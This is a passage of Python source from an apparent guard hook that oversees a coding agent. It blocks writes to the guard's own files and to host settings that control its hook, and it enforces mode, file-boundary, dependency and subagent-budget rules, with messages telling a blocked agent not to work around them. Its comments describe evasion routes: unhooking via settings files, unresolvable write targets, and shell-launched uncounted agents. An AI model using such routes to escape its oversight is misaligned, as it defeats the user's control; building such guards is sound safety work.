        ("Claude Code's per-session shell environment (CLAUDE_ENV_FILE)",
         ("$CLAUDE_CONFIG_DIR",), ("session-env/",)),
    ),
}

class HostSettings(Record):
    """HOST_SETTINGS for one environment: the first names of the entries that
    apply under any folder, and the folders the other entries lie under.  It
    rides in the protected set beside the guard's own paths (see
    _protected_paths).  Entries are split into names only for a path that
    reaches one of these, so a call naming `src/app.py` costs a few lookups."""

    __slots__ = FIELDS = ('heads', 'bases')

    heads: "frozenset[str]"   # case-folded
    # first name of the folder, case-folded -> (names of the folder, the folder
    # as written, Windows path?, host, row index)
    bases: Dict[str, List[Tuple[Tuple[str, ...], str, bool, str, int]]]


def _settings_parts(path: str, windows: bool) -> Tuple[str, ...]:
    if not windows:
        return tuple(p for p in path.split("/") if p and p != ".")
    # Windows drops trailing dots and spaces from a name and reads `name::$DATA`
    # or `name:stream` as the file itself; `\\?\` only turns off that parsing.
    path = path.replace("\\", "/")
    if path.startswith(("//?/", "//./")):
        path = path[4:]
    parts = []
    for i, part in enumerate(p for p in path.split("/") if p and p != "."):
        if i or not (len(part) == 2 and part[1] == ":"):
            part = part.split(":", 1)[0].rstrip(". ") or part
        parts.append(part)
    return tuple(parts)


def _settings_base(spec: str, environ: Any, home: str
                   ) -> Optional[Tuple[Tuple[str, ...], str, bool]]:
    """(names, text, Windows path?) of the folder a HOST_SETTINGS base stands
    for here, or None: a variable is unset, or names a relative folder (which
    depends on the host's working folder)."""
    text = spec
    if "$" in text:
        head, _, rest = text.partition("$")
        name, sep, tail = rest.partition("/")
        value = (environ.get(name) or "").strip()
        if not value:
            return None
        text = head + value + sep + tail
    if text == "~" or text.startswith("~/"):
        text = home + text[1:]
    elif text.startswith("~"):
        text = os.path.expanduser(text)
    windows = _files_win_abs(text)
    if not windows and not os.path.isabs(text):
        return None
    parts = _settings_parts(text if windows else os.path.normpath(text), windows)
    return (parts, text.rstrip("/\\") or text, windows) if parts else None


# HOST_SETTINGS parsed once per process, on first need.
_SETTINGS_CACHE: Dict[Any, Any] = {}


def _settings_static() -> Tuple["frozenset[str]", list, list]:
    """(first names of the entries under any folder, fixed system folders,
    bases an environment variable or the home folder decides)."""
    cached = _SETTINGS_CACHE.get("static")
    if cached is None:
        heads, system, variable = set(), [], []
        for host, rows in HOST_SETTINGS.items():
            for index, (_, bases, entries) in enumerate(rows):
                for spec in bases:
                    if spec == "**":
                        heads.update(e.split("/", 1)[0].casefold() for e in entries)
                    elif "$" in spec or spec.startswith("~"):
                        variable.append((spec, host, index))
                    else:
                        base = _settings_base(spec, {}, "")
                        if base is not None:
                            system.append(base + (host, index))
        cached = _SETTINGS_CACHE["static"] = (frozenset(heads), system, variable)
    return cached


def _settings_row(host: str, index: int) -> List[Tuple[Tuple[str, ...], bool, str]]:
    """(names, folder?, as written) of one HOST_SETTINGS row's entries."""
    key = (host, index)
    row = _SETTINGS_CACHE.get(key)
    if row is None:
        row = _SETTINGS_CACHE[key] = [(_settings_parts(e, False), e.endswith("/"), e)
                                      for e in HOST_SETTINGS[host][index][2]]
    return row


def _settings_anywhere() -> Dict[str, List[Tuple[Tuple[str, ...], bool, str, str, int]]]:
    """First name (case-folded) -> (names, folder?, as written, host, row) of
    every entry that applies under any folder."""
    table = _SETTINGS_CACHE.get("anywhere")
    if table is None:
        table = _SETTINGS_CACHE["anywhere"] = {}
        for host, rows in HOST_SETTINGS.items():
            for index, (_, bases, _) in enumerate(rows):
                if "**" in bases:
                    for parts, folder, spelled in _settings_row(host, index):
                        table.setdefault(parts[0].casefold(), []).append(
                            (parts, folder, spelled, host, index))
    return table


def host_settings(environ: Any = None, home: Optional[str] = None) -> HostSettings:
    """HOST_SETTINGS resolved against `environ` (default: this process's, which
    the host passed on to the hook) and the home folder."""
    environ = os.environ if environ is None else environ
    home = home or os.path.expanduser("~")
    heads, system, variable = _settings_static()
    bases: Dict[str, List[Tuple[Tuple[str, ...], str, bool, str, int]]] = {}
    for base in system + [b + (host, index) for spec, host, index in variable
                          for b in [_settings_base(spec, environ, home)] if b is not None]:
        bases.setdefault(base[0][0].casefold(), []).append(base)
    return HostSettings(heads, bases)


def _settings_name_match(name: str, want: str, fold: bool) -> bool:
    if fold:
        name, want = name.casefold(), want.casefold()
    if "*" in want:
        import fnmatch
        return fnmatch.fnmatchcase(name, want)
    return name == want


def _settings_relation(parts: Tuple[str, ...], want: Tuple[str, ...], folder: bool,
                       fold: bool) -> Optional[str]:
    """"is", "in" (inside a folder entry) or "holds" when the names `parts`
    reach the entry `want`, else None."""
    n, m = len(parts), len(want)
    if n > m and not folder:
        return None
    for name, pattern in zip(parts, want):
        if not _settings_name_match(name, pattern, fold):
            return None
    return "is" if n == m else ("in" if n > m else "holds")


class _SettingsReading(Record):
    """One way a path named by a call can be read: its absolute names (or,
    with no known folder, the names as written) and how to compare them."""

    __slots__ = FIELDS = ('shown', 'parts', 'windows', 'absolute')

    shown: str
    parts: Tuple[str, ...]
    windows: bool
    absolute: bool


def _settings_physical(path: str, folders: Optional[Dict[str, str]]) -> str:
    """realpath(path), with the folder's own resolution shared through
    `folders` by every path of one call in the same folder (`rm` of a
    thousand files resolves their folder once, and lstats each name)."""
    head, tail = os.path.split(path)
    if folders is None or tail in ("", ".", ".."):
        return _files_realpath(path)
    real = folders.get(head)
    if real is None:
        real = folders[head] = _files_realpath(head)
    if os.path.islink(path):
        return _files_realpath(path)
    return os.path.join(real, tail)


def _settings_readings(raw: str, cwd: Optional[str], folders: Optional[Dict[str, str]] = None
                       ) -> List[_SettingsReading]:
    """The lexical reading (`..` applied to the names) and the physical one
    (links followed) of a path, since hosts differ in which they use."""
    text = raw.strip()
    if not text:
        return []
    base = cwd.strip() if isinstance(cwd, str) else ""
    if _files_win_abs(text) or (not text.startswith(("/", "~")) and _files_win_abs(base)):
        import ntpath
        joined = ntpath.normpath(ntpath.join(base, text) if _files_win_abs(base) else text)
        return [_SettingsReading(joined, _settings_parts(joined, True), True,
                                 _files_win_abs(joined))]
    if text.startswith("~"):
        text = os.path.expanduser(text)
    if not os.path.isabs(text):
        if base.startswith("~"):
            base = os.path.expanduser(base)
        if not os.path.isabs(base):
            return [_SettingsReading(text, _settings_parts(os.path.normpath(text), False),
                                     False, False)]
        text = os.path.join(base, text)
    lexical = os.path.normpath(text)
    readings = [_SettingsReading(lexical, _settings_parts(lexical, False), False, True)]
    physical = _settings_physical(text, folders)
    if physical != lexical:
        readings.append(_SettingsReading(physical, _settings_parts(physical, False), False, True))
    return readings


def _settings_holds_cwd(reading: _SettingsReading, cwd_parts: List[Tuple[str, ...]]) -> bool:
    n = len(reading.parts)
    fold = reading.windows
    want = tuple(p.casefold() for p in reading.parts) if fold else reading.parts
    return reading.absolute and any(
        (tuple(p.casefold() for p in c[:n]) if fold else c[:n]) == want for c in cwd_parts)


# (relation, host, row index, the entry as written out)
_SettingsHit = "Tuple[str, str, int, str]"


def _settings_scan(reading: _SettingsReading, settings: HostSettings
                   ) -> Tuple[Optional[_SettingsHit], bool]:
    """(the first entry the names reach in any letter case, whether that
    match is exact); an exact match wins over one found earlier in another case."""
    names = reading.parts
    folded = [n.casefold() for n in names]
    other: Optional[_SettingsHit] = None
    if not settings.heads.isdisjoint(folded):
        anywhere = _settings_anywhere()
        for i, name in enumerate(folded):
            for parts, folder, spelled, host, index in anywhere.get(name, ()):
                relation = _settings_relation(names[i:], parts, folder, True)
                if relation:
                    if _settings_relation(names[i:], parts, folder, False) == relation:
                        return (relation, host, index, spelled), True
                    other = other or (relation, host, index, spelled)
    if not reading.absolute or not names:
        return other, False
    for head, shown, windows, host, index in settings.bases.get(folded[0], ()):
        if windows != reading.windows:
            continue
        k = min(len(head), len(names))
        if any(not _settings_name_match(a, b, True) for a, b in zip(names[:k], head[:k])):
            continue
        for parts, folder, spelled in _settings_row(host, index):
            relation = _settings_relation(names, head + parts, folder, True)
            if relation:
                hit = relation, host, index, shown + "/" + spelled if spelled else shown
                if _settings_relation(names, head + parts, folder, False) == relation:
                    return hit, True
                other = other or hit
    return other, False


def _settings_reach(reading: _SettingsReading, settings: HostSettings
                    ) -> Optional[_SettingsHit]:
    """The first entry `reading` reaches.  Letter case counts except on
    Windows paths and where the file system ignores it (probed only when a
    name matches in another case)."""
    hit, exact = _settings_scan(reading, settings)
    if hit is None or exact or reading.windows:
        return hit
    # With no known folder to probe, another case is taken to be the same file.
    if not reading.absolute or _tamper_case_insensitive(reading.shown):
        return hit
    return None


def host_settings_matches(action: Action, protected_paths: Any) -> List[Tuple[str, str, _SettingsHit]]:
    """(raw path, path as read, hit) for every path of `action` (affected or
    shell write target) that reaches a host file of HOST_SETTINGS."""
    settings = next((p for p in protected_paths if isinstance(p, HostSettings)), None)
    if settings is None:
        return []
    cwd_parts: Optional[List[Tuple[str, ...]]] = None
    folders: Dict[str, str] = {}
    found = []
    for raw in list(action.affected_paths) + list(action.shell_write_targets):
        for reading in _settings_readings(raw, action.cwd, folders):
            hit = _settings_reach(reading, settings)
            if hit is None:
                continue
            if hit[0] == "holds":
                if cwd_parts is None:
                    cwd_parts = [r.parts for r in _settings_readings(".", action.cwd)
                                 if r.absolute]
                if _settings_holds_cwd(reading, cwd_parts):
                    continue
            found.append((raw, reading.shown, hit))
            break
    return found


# Glob patterns of shell write targets: `rm .claude/*.json`, `rm -rf d` (which
# the analyzer also gives as d/**), `cp -r x/. .claude` (.claude/*).  A
# pattern reaches an entry in any of three ways:
#   - by names, where the entry's own names are written out: `.claude/*`
#     reaches .claude/settings.json whether or not it exists yet.  A wildcard
#     never stands for the first name of an entry that applies under any
#     folder, or `dist/*` would stand for dist/.claude and every folder
#     would hold settings;
#   - on disk: a shell wildcard expands to names that exist, so the pattern
#     is expanded and every path it yields is matched like a named path (a
#     link included);
#   - for a folder changed as a whole (a `**`), by looking up in it the first
#     names of the entries that apply under any folder, then the entries
#     under the names that exist.
# Where the disk cannot be read (a Windows path here, no known working
# folder, a listing past the limit), the names alone decide.

_GLOB_LIST_LIMIT = 4096  # directory entries listed per pattern before the names decide


def _glob_wild(name: str) -> bool:
    return any(c in name for c in "*?[")


def _glob_name(name: str, pattern: str, fold: bool) -> bool:
    """Whether some name matches both `name` (an entry's, maybe with its own
    `*`) and `pattern` (a pattern's)."""
    if fold:
        name, pattern = name.casefold(), pattern.casefold()
    import fnmatch
    if "*" in name:
        return _glob_wild(pattern) or fnmatch.fnmatchcase(pattern, name)
    return fnmatch.fnmatchcase(name, pattern) if _glob_wild(pattern) else name == pattern


def _glob_reach(q: Tuple[str, ...], i: int, want: Tuple[str, ...], j: int, folder: bool,
                fold: bool, free_stars: bool) -> Optional[str]:
    """How a path matching the pattern names q[i:] reaches the entry names
    want[j:]: "is", "in", "holds" or None.  free_stars: a `**` may stand for
    names of the entry (one at a known place); for an entry under any folder
    it may not, or it would stand for every folder."""
    if j == len(want):
        if all(p == "**" for p in q[i:]):
            return "is"
        return "in" if folder else None
    if i == len(q):
        return "holds" if j > 0 or free_stars else None
    if q[i] == "**":
        return (_glob_reach(q, i + 1, want, j, folder, fold, free_stars)
                or (_glob_reach(q, i, want, j + 1, folder, fold, free_stars)
                    if free_stars else None))
    if _glob_name(want[j], q[i], fold):
        return _glob_reach(q, i + 1, want, j + 1, folder, fold, free_stars)
    return None


def _glob_by_name(reading: _SettingsReading, settings: HostSettings) -> Optional[_SettingsHit]:
    """The first entry some path matching the pattern could reach, by names alone."""
    q, fold = reading.parts, True  # letter case cannot be probed on a pattern: either counts
    anywhere = _settings_anywhere()
    for start in range(len(q)):
        for parts, folder, spelled, host, index in anywhere.get(q[start].casefold(), ()):
            relation = _glob_reach(q, start, parts, 0, folder, fold, False)
            if relation:
                return relation, host, index, spelled
    if reading.absolute:
        for head, shown, windows, host, index in (
                b for bases in settings.bases.values() for b in bases):
            if windows == reading.windows:
                for parts, folder, spelled in _settings_row(host, index):
                    relation = _glob_reach(q, 0, head + parts, 0, folder, fold, True)
                    if relation:
                        return relation, host, index, shown + "/" + spelled if spelled else shown
    return None


def _glob_tree(folder: str) -> Optional[_SettingsHit]:
    """An entry (of those under any folder) that exists directly in `folder`."""
    anywhere = _settings_anywhere()
    for first in sorted({parts[0] for entries in anywhere.values() for parts, *_ in entries}):
        if os.path.lexists(os.path.join(folder, first)):
            for parts, _, spelled, host, index in anywhere.get(first.casefold(), ()):
                if "*" in spelled or os.path.lexists(os.path.join(folder, *parts)):
                    return "holds", host, index, spelled
    return None


def _glob_expand(folder: str, rest: Tuple[str, ...], budget: List[int],
                 out: List[Tuple[str, bool]]) -> bool:
    """Collect (path, whole tree?) for the paths `rest` names below `folder`;
    False when the listing limit ran out."""
    if not rest:
        out.append((folder, False))
        return True
    name = rest[0]
    if name == "**":
        out.append((folder, True))
        return True
    if not _glob_wild(name):
        return _glob_expand(os.path.join(folder, name), rest[1:], budget, out)
    import fnmatch
    try:
        names = os.listdir(folder)
    except OSError:
        return True  # nothing to expand: the word stays as written, a new name
    budget[0] -= len(names)
    if budget[0] < 0:
        return False
    return all(_glob_expand(os.path.join(folder, n), rest[1:], budget, out)
               for n in sorted(names) if fnmatch.fnmatchcase(n, name))


def host_settings_pattern_matches(patterns: Any, cwd: Optional[str], protected_paths: Any
                                  ) -> List[Tuple[str, str, _SettingsHit]]:
    """(pattern, what it reaches, hit) for the shell write patterns (see
    ShellAnalysis) that may reach a host file of HOST_SETTINGS."""
    settings = next((p for p in protected_paths if isinstance(p, HostSettings)), None)
    if settings is None:
        return []
    found = []
    for pattern in patterns:
        readings = _settings_readings(pattern, cwd)
        if not readings:
            continue
        reading = readings[0]  # the names as written: links are followed per path below
        hit = _glob_by_name(reading, settings)
        if hit is not None:
            found.append((pattern, reading.shown, hit))
            continue
        if not reading.absolute or not reading.parts or reading.windows != (os.name == "nt"):
            continue  # no folder to list, or a path of another OS
        start, rest = ((reading.parts[0] + "\\", reading.parts[1:]) if reading.windows
                       else ("/", reading.parts))
        expanded: List[Tuple[str, bool]] = []
        if not _glob_expand(start, rest, [_GLOB_LIST_LIMIT], expanded):
            continue
        for path, tree in expanded:
            hit = next((h for r in _settings_readings(path, None)
                        for h in [_settings_reach(r, settings)] if h is not None), None)
            if hit is None and tree:
                hit = _glob_tree(path)
            if hit is not None:
                found.append((pattern, path, hit))
                break
    return found


def _host_settings_detail(hits: List[Tuple[str, str, _SettingsHit]]) -> str:
    parts = []
    for raw, shown, (relation, host, index, spelled) in hits:
        named = shown if raw == shown else "%s (named `%s`)" % (shown, raw)
        what = HOST_SETTINGS[host][index][0]  # it names the host
        if relation == "is":
            parts.append("%s is %s" % (named, what))
        elif relation == "in":
            parts.append("%s lies in %s, %s" % (named, spelled, what))
        else:
            parts.append("%s holds %s, %s" % (named, spelled, what))
    return ("This call would change a host file that decides whether the guard's hook runs: "
            "%s. A write there can turn the hooks off, replace them or load code that "
            "unhooks the guard, so self-protection stops it in every mode while the guard is "
            "armed, change and open included." % "; ".join(parts))


# What an agent stopped for a host settings file is told to do.
_HOST_SETTINGS_NEXT = (
    "Do not work around this. If the user wants this file changed, the user first turns the "
    "guard off for this session by sending `$stop-that-shit off` as a prompt, then asks for "
    "the edit again (`$stop-that-shit change` arms the guard again afterwards); or the user "
    "edits the file by hand. Tell the user what you wanted to change in it and why.")


def _tamper_pattern_detail(hits: List[Tuple[str, str, str]]) -> str:
    parts = []
    for pattern, reached, root in hits:
        if pattern.endswith("/**"):
            parts.append("`%s` changes everything under %s, and %s is there (%s)"
                         % (pattern, pattern[:-3] or "/", root, _tamper_what(root)))
        else:
            parts.append("`%s` may name %s, which reaches %s (%s)"
                         % (pattern, reached, root, _tamper_what(root)))
    return ("This call would change the guard's own files: %s. Self-protection stops such "
            "writes in every mode while the guard is armed, change and open included."
            % "; ".join(parts))


def _tamper_unknown_detail(action: Action, unplaced: List[str]) -> str:
    if unplaced:
        why = ("it names %s relative to a working folder the event does not give"
               % ", ".join("`%s`" % p for p in unplaced))
    else:
        why = ("a target is built from a variable, a command substitution or `~user` whose "
               "value the guard cannot know, lies in a folder it cannot follow, or sits in "
               "shell syntax the guard does not read")
    return ("This call writes to a path the guard cannot establish: %s. That path could be "
            "one of the guard's own files, so self-protection stops it in every mode while "
            "the guard is armed, change and open included." % why)


# What an agent stopped for an unestablished target is told to do.
_TAMPER_UNKNOWN_NEXT = (
    "Spell the target out as a literal path (a glob, $HOME, $TMPDIR, $PWD or a variable set "
    "earlier in the same command also work) so the guard can see it is not one of its own "
    "files. If you did mean to change the guard, tell the user instead.")


# ---- the ordered checks -----------------------------------------------------


class _DecisionFacts:
    """What the checks read, prepared once per call: the contract, whether the
    guard is armed, the budget (unlimited unless a valid integer), the
    admission count and the ledger summary."""

    def __init__(self, action: Action, state: dict, action_id: Optional[str], declared: bool,
                 storage_error: Optional[dict], protected_paths: Any,
                 thrash_repeats: int) -> None:
        self.action = action
        self.state = state
        self.contract = state.get("contract") or {}
        self.mode = self.contract.get("mode")
        self.armed = control_state(self.contract) == "ARMED"
        self.storage_error = storage_error
        self.protected_paths = protected_paths
        self.thrash_repeats = thrash_repeats
        mut = action.mutability
        self.delegate = mut == "delegate"
        self.legacy = not declared and mut in ("delegate", "control", "unknown")
        self.count = action.admission_count
        budget = self.contract.get("agentBudget")
        self.budget = budget if _is_int(budget) else MAX_SAFE_INTEGER
        self.finite = self.budget < MAX_SAFE_INTEGER
        self.ledger = ledger_summary(state.get("delegation") or {}, action_id)
        allowed = self.contract.get("allowedPaths")
        self.allowed = list(allowed) if isinstance(allowed, list) else None


# A check returns None (no match) or (detail, next override, policy); the
# alias is only an annotation, so it stays a string.
_CheckHit = "Optional[Tuple[str, Optional[str], Optional[str]]]"


def _with_analysis(detail: str, action: Action) -> str:
    sentence = ANALYSIS_REASONS.get(action.analysis_reason or "")
    return detail + " " + sentence if sentence else detail


def _when_recovery_read(f: _DecisionFacts) -> _CheckHit:
    mut = f.action.mutability
    if f.storage_error is not None and (
            mut == "read" or (mut == "control" and not f.action.delegation_lifecycle_unproven)):
        return ("Read-only recovery lets reads and plain controls through.", None, None)
    return None


def _recovery_message(f: _DecisionFacts) -> str:
    return str((f.storage_error or {}).get("message") or "")


def _when_lock_damaged(f: _DecisionFacts) -> _CheckHit:
    if f.storage_error is not None and f.storage_error.get("code") == "STS_LOCK_DAMAGED":
        return (_recovery_message(f), None, None)
    return None


def _when_state_damaged(f: _DecisionFacts) -> _CheckHit:
    if f.storage_error is not None:
        return (_recovery_message(f), None, None)
    return None


def _when_tamper(f: _DecisionFacts) -> _CheckHit:
    if f.contract.get("level") == "off" or not f.protected_paths:
        return None
    matches = _tamper_matches(f.action, f.protected_paths)
    if matches:
        return (_tamper_detail(matches), None, None)
    by_pattern = _tamper_pattern_hits(f.action, f.protected_paths)
    if by_pattern:
        return (_tamper_pattern_detail(by_pattern), None, None)
    settings = host_settings_matches(f.action, f.protected_paths)
    settings += host_settings_pattern_matches(f.action.shell_write_patterns, f.action.cwd,
                                              f.protected_paths)
    if settings:
        return (_host_settings_detail(settings), _HOST_SETTINGS_NEXT, None)
    if f.action.mutability != "read":
        # A write whose target could be a guard file is not let through.
        unplaced = _tamper_unplaced(f.action)
        if unplaced or f.action.unknown_write_target:
            return (_tamper_unknown_detail(f.action, unplaced), _TAMPER_UNKNOWN_NEXT, None)
    return None


def _when_inactive(f: _DecisionFacts) -> _CheckHit:
    if f.contract.get("level") == "off" or f.mode == "unconfirmed":
        return ("No confirmed enforcing contract is active.", None, None)
    return None


def _when_invalid_directive(f: _DecisionFacts) -> _CheckHit:
    error = f.state.get("directiveError")
    if not (f.delegate and error):
        return None
    what = ""
    if isinstance(error, dict):
        what = str(error.get("message") or error.get("code") or "")
    what = what or "unknown directive error"
    # The embedded message ends with its own period; avoid "..".
    if what.endswith("."):
        what = what[:-1]
    return ("The active directive is invalid: %s." % what, None, None)


def _when_legacy(f: _DecisionFacts) -> _CheckHit:
    if f.legacy and f.finite:
        return ("The adapter does not declare lifecycle support, so the agent limit cannot "
                "be proven for this call.", None, None)
    return None


def _when_mode_write(f: _DecisionFacts) -> _CheckHit:
    if f.mode in _MUTATION_FREE_MODES and f.action.mutability == "write":
        return (_with_analysis("Mode %s does not allow changes to the repository." % f.mode,
                               f.action), None, None)
    return None


def _when_mode_unknown(f: _DecisionFacts) -> _CheckHit:
    if f.mode in _MUTATION_FREE_MODES and f.action.mutability == "unknown":
        return (_with_analysis("The call is not proven read-only, which mode %s requires."
                               % f.mode, f.action), None, None)
    return None


def _when_hash(f: _DecisionFacts) -> _CheckHit:
    policy = f.contract.get("hashPolicy")
    if f.action.hash_intent and policy != "allow":
        return ("The call adds or runs hashing while the contract says hash=%s." % policy,
                None, policy)
    return None


def _when_unreachable(f: _DecisionFacts) -> _CheckHit:
    if f.action.reachability == "unreachable":
        return ("This hardening has no supported reachable input or deployed state.",
                None, None)
    return None


def _shell_outside(f: _DecisionFacts) -> List[str]:
    """Shell write targets and patterns that may land outside files=.  A
    pattern stays inside only when everything below its fixed leading
    folder does (`src/*.py` under `src/**`)."""
    action = f.action
    if f.allowed is None or not (action.shell_write_targets or action.shell_write_patterns):
        return []
    out = paths_outside(action.shell_write_targets, f.allowed, action.cwd)
    for pattern in action.shell_write_patterns:
        head = _glob_static_head(pattern)
        rest = pattern[len(head):] if pattern.startswith(head) else pattern
        probe = head.rstrip("/") + "/\0"   # a name no files= pattern spells out
        if "/../" in rest + "/" or paths_outside([probe], f.allowed, action.cwd):
            out.append(pattern)
    return out


def _when_write_path(f: _DecisionFacts) -> _CheckHit:
    if (f.allowed is not None and f.action.mutability in ("write", "unknown")
            and not f.action.affected_paths
            and not boundary_waives_paths(f.allowed, f.action.cwd)):
        if f.action.unknown_write_target or _shell_outside(f):
            return None   # known to (maybe) leave the boundary: the next check says where
        return ("The target path is not proven to be inside the files= boundary.", None, None)
    return None


def _when_outside(f: _DecisionFacts) -> _CheckHit:
    if f.allowed is None or boundary_waives_paths(f.allowed, f.action.cwd) and not (
            f.action.affected_paths):
        return None
    outside = paths_outside(f.action.affected_paths, f.allowed, f.action.cwd) \
        if f.action.affected_paths else []
    outside += _shell_outside(f)
    if outside:
        return ("The call writes outside the declared boundary: %s." % ", ".join(outside),
                None, None)
    if f.action.unknown_write_target and f.action.mutability != "read" \
            and not boundary_waives_paths(f.allowed, f.action.cwd):
        # A write that may land outside the lock is outside.
        return ("The call also writes to a path the guard cannot establish (a variable or "
                "command substitution it cannot resolve, or a folder it cannot follow), "
                "which may lie outside the declared boundary.", None, None)
    return None


def _when_dependency(f: _DecisionFacts) -> _CheckHit:
    policy = f.contract.get("dependencyPolicy")
    if f.action.dependency_intent and policy != "allow":
        return ("The call adds a dependency while the contract says deps=%s." % policy,
                None, policy)
    return None


_AGENT_START_NEXT = (
    "Delegate through the host's own subagent tool, which the guard counts, or ask the user "
    "to lift agents=N for this work.")


def _when_unbounded(f: _DecisionFacts) -> _CheckHit:
    # Only a finite budget makes an unbounded fan-out a problem; under the
    # unlimited default it is admitted as unresolved.
    if f.delegate and f.action.unbounded_delegation and f.finite:
        return ("The fan-out of this delegation has no bound, so agents=%d cannot hold "
                "deterministically." % f.budget, None, None)
    agent = f.action.starts_agent
    if agent and f.finite:
        # An agent started from the shell runs outside every host event the
        # guard sees, so no reservation could ever be released: uncountable.
        what = ("a program named by a variable or substitution, which may be a coding agent"
                if agent == "?" else "the coding agent `%s`" % agent)
        return ("The call starts %s outside the host's delegation tools, so agents=%d cannot "
                "count it." % (what, f.budget), _AGENT_START_NEXT, None)
    return None


def _when_duplicate(f: _DecisionFacts) -> _CheckHit:
    if f.delegate and f.ledger.duplicate:
        return ("The host reused the id of an already accepted delegation.", None, None)
    return None


def _when_state_unproven(f: _DecisionFacts) -> _CheckHit:
    if f.delegate and f.ledger.unresolved_reasons and f.finite:
        return ("Earlier permitted activity has no proven bound: %s."
                % ", ".join(f.ledger.unresolved_reasons), None, None)
    return None


def _when_lifecycle_unproven(f: _DecisionFacts) -> _CheckHit:
    if f.action.delegation_lifecycle_unproven and f.finite:
        return ("The call can restart an existing agent whose runs the host cannot tell "
                "apart, so the agent limit cannot be proven.", None, None)
    return None


def _when_budget(f: _DecisionFacts) -> _CheckHit:
    reserved = f.ledger.reserved
    if f.delegate and reserved + f.count > f.budget:
        detail = ("The contract allows %d concurrently active subagent(s); %d unit(s) are "
                  "reserved and this call needs %d." % (f.budget, reserved, f.count))
        return (detail, _BUDGET_NEXT_UNKNOWN if f.ledger.unknown_results > 0 else None, None)
    return None


def _when_expansion(f: _DecisionFacts) -> _CheckHit:
    if f.action.authorization == "unapproved_expansion":
        return ("The change was neither requested nor a necessary consequence of the request.",
                None, None)
    return None


def _when_thrash(f: _DecisionFacts) -> _CheckHit:
    if f.thrash_repeats >= THRASH_REPEAT_LIMIT:
        return ("The same command has now run %d times in a row with no change in between."
                % f.thrash_repeats, None, None)
    return None


def _when_within(f: _DecisionFacts) -> _CheckHit:
    return ("The call is within the active contract.", None, None)


# The decision table: every reason code, in the order the checks run.  The
# first row whose check matches decides; WITHIN_CONTRACT always matches.
# Damaged state comes first (nothing else can be trusted), then
# self-protection (no mode, change and open included, lets an armed agent
# switch the guard off), then whether anything is enforced at all, then the
# contract's own rules, and thrash just before the final allow.
DECISION_TABLE: Tuple[_DecisionRow, ...] = (
    # Decided by the engine, not by a check: the session lock stayed taken
    # for a delegation change under a finite budget (see state_busy_decision).
    _DecisionRow("STATE_BUSY", "S", "deny_when_armed", None,
                 "Retry the call in a moment; another hook holds the session state."),
    # Read-only recovery: the state file or its lock is damaged.
    _DecisionRow("RECOVERY_READ_ONLY", None, "allow", _when_recovery_read),
    _DecisionRow("STS_LOCK_DAMAGED", "I", "always_deny", _when_lock_damaged,
                 "Follow the lock-recovery steps (stop every host using this data dir, then "
                 "move only the lock aside); contracts and the delegation ledger are kept."),
    _DecisionRow("STATE_DAMAGED", "I", "always_deny", _when_state_damaged,
                 "Restore a known-good backup of the session file or start a new host "
                 "session; do not clear unresolved delegation records by hand."),
    _DecisionRow("GUARD_SELF_PROTECTION", "I", "deny_when_armed", _when_tamper, _TAMPER_NEXT),
    _DecisionRow("CONTROL_INACTIVE", None, "allow", _when_inactive),
    _DecisionRow("INVALID_DIRECTIVE", "S", "deny_when_armed", _when_invalid_directive,
                 "Have the user fix the reported directive field before delegating."),
    _DecisionRow("LIFECYCLE_PROTOCOL_REQUIRED", "S", "deny_when_armed", _when_legacy,
                 "Upgrade the adapter and the runtime together; reads and writes keep "
                 "working meanwhile."),
    _DecisionRow("MODE_FORBIDS_MUTATION", "I", "deny_when_armed", _when_mode_write,
                 "Report what you found, use a read-only action, or ask the user for a "
                 "change contract."),
    _DecisionRow("MUTABILITY_UNPROVEN", "I", "approval_when_armed", _when_mode_unknown,
                 "Use a command that is plainly read-only, or ask the user for a change "
                 "contract."),
    # Hashing outranks the file boundary: an H finding is reported as H.
    _DecisionRow("HASH_NOT_AUTHORIZED", "H", "policy_when_armed", _when_hash,
                 "Use a direct alternative, or get `hash=allow` from the user naming who "
                 "consumes the hash, what cost it replaces and which decision it changes."),
    _DecisionRow("HYPOTHETICAL_UNREACHABLE", "H", "always_defer", _when_unreachable,
                 "Defer this hardening unless evidence shows the input or state is "
                 "reachable."),
    _DecisionRow("WRITE_PATH_UNPROVEN", "S", "approval_when_armed", _when_write_path,
                 "Use a patch or edit tool whose paths are visible, or ask the user to "
                 "approve a broader boundary."),
    _DecisionRow("PATH_OUTSIDE_CONTRACT", "S", "deny_when_armed", _when_outside,
                 "Stay inside the declared files= boundary, or ask the user for a new one."),
    _DecisionRow("DEPENDENCY_NOT_AUTHORIZED", "S", "policy_when_armed", _when_dependency,
                 "Keep to the existing stack, or get `deps=allow` from the user for this "
                 "dependency."),
    # Delegation: a call that cannot be counted, then the count itself.
    _DecisionRow("UNBOUNDED_DELEGATION", "S", "deny_when_armed", _when_unbounded,
                 "Delegate a bounded batch instead, or have the user switch the guard off "
                 "for this workflow."),
    _DecisionRow("DUPLICATE_ACTION_ID", "S", "deny_when_armed", _when_duplicate,
                 "Give every delegation call its own id."),
    _DecisionRow("DELEGATION_STATE_UNPROVEN", "S", "deny_when_armed", _when_state_unproven,
                 "Wait until that call is confirmed complete, or continue in a new host "
                 "session."),
    _DecisionRow("DELEGATION_LIFECYCLE_UNPROVEN", "S", "deny_when_armed",
                 _when_lifecycle_unproven,
                 "Start a new delegation call instead; messaging and resuming agents stay "
                 "available when no finite agent limit is set."),
    _DecisionRow("AGENT_BUDGET_EXHAUSTED", "S", "deny_when_armed", _when_budget,
                 "Wait for a delegated call to complete, or ask the user to raise agents=N."),
    _DecisionRow("UNAPPROVED_SCOPE_EXPANSION", "S", "approval_when_armed", _when_expansion,
                 "Report it, defer it, or get the user's explicit approval first."),
    # Thrash is only ever reported, at every level: it never denies.
    _DecisionRow("REPEATED_WITHOUT_CHANGE", "T", "always_defer", _when_thrash,
                 "Change something (code, input or approach) before running it again, or "
                 "report what blocks you."),
    _DecisionRow("WITHIN_CONTRACT", None, "allow", _when_within),
)

# The same rows by code, for the decisions made outside `decide` (STATE_BUSY).
_DECISION_ROWS: Dict[str, _DecisionRow] = {row.code: row for row in DECISION_TABLE}


def decide(action: Action, state: dict, *, action_id: Optional[str], declared: bool,
           storage_error: Optional[dict] = None, protected_paths: Tuple[str, ...] = (),
           thrash_repeats: int = 0) -> Decision:
    """Run DECISION_TABLE against `state` (schema 4 dict): the first row whose
    check matches decides.

    storage_error: {"code", "message"} when the session is in read-only
    recovery; `state` is then the recovery state.
    protected_paths: resolved absolute roots the agent must not write (the
    data dir, the running sts.py, the files install wrote), strings, and at
    most one HostSettings (host files named by HOST_SETTINGS).
    thrash_repeats: runs in a row of this same command with no write in
